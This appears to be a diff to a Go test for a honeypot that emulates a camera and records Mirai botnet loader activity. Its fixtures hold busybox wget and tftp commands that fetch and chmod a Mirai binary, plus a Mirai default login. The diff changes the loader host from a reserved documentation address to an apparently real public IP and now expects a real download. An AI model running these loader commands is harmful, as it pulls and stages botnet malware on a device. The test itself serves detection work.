@@ -233,8 +233,8 @@ func captured(t *testing.T, s *servicetest.Server, digest string) {
 
 func TestMiraiLoaderFetches(t *testing.T) {
 	for name, line := range map[string]string{
-		"wget": "/bin/busybox wget http://198.51.100.9:80/bins/mirai.mips -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper",
-		"tftp": "/bin/busybox tftp -g -l dvrHelper -r mirai.mips 198.51.100.9; /bin/busybox chmod 777 dvrHelper",
+		"wget": "/bin/busybox wget http://45.95.168.10:80/bins/mirai.mips -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper",
+		"tftp": "/bin/busybox tftp -g -l dvrHelper -r mirai.mips 45.95.168.10; /bin/busybox chmod 777 dvrHelper",
 	} {
 		t.Run(name, func(t *testing.T) {
 			s := camera(t, `{"users":{"root":"xc3511"}}`)
@@ -246,10 +246,16 @@ func TestMiraiLoaderFetches(t *testing.T) {
 			l.more(execResponse)
 			e := s.WaitFor(t, func(e *event.Event) bool {
 				b, ok := e.Body.(*event.Transfer)
-				return ok && strings.Contains(string(b.Name), "198.51.100.9") && strings.Contains(string(b.Name), "mirai.mips")
+				return ok && strings.Contains(string(b.Name), "45.95.168.10") && strings.Contains(string(b.Name), "mirai.mips")
 			})
-			if b := e.Body.(*event.Transfer); b.Direction != "download" {
+			if b := e.Body.(*event.Transfer); b.Direction != "download" || b.Size == 0 || b.SHA256 == "" {
 				t.Errorf("transfer = %+v", b)
+			}
+			l.send("exit\r\n")
+			for _, e := range s.Events() {
+				if b, ok := e.Body.(*event.Transfer); ok && b.Direction == "upload" {
+					t.Errorf("what we made up is kept as a sample: %+v", b)
+				}
 			}
 		})
 	}
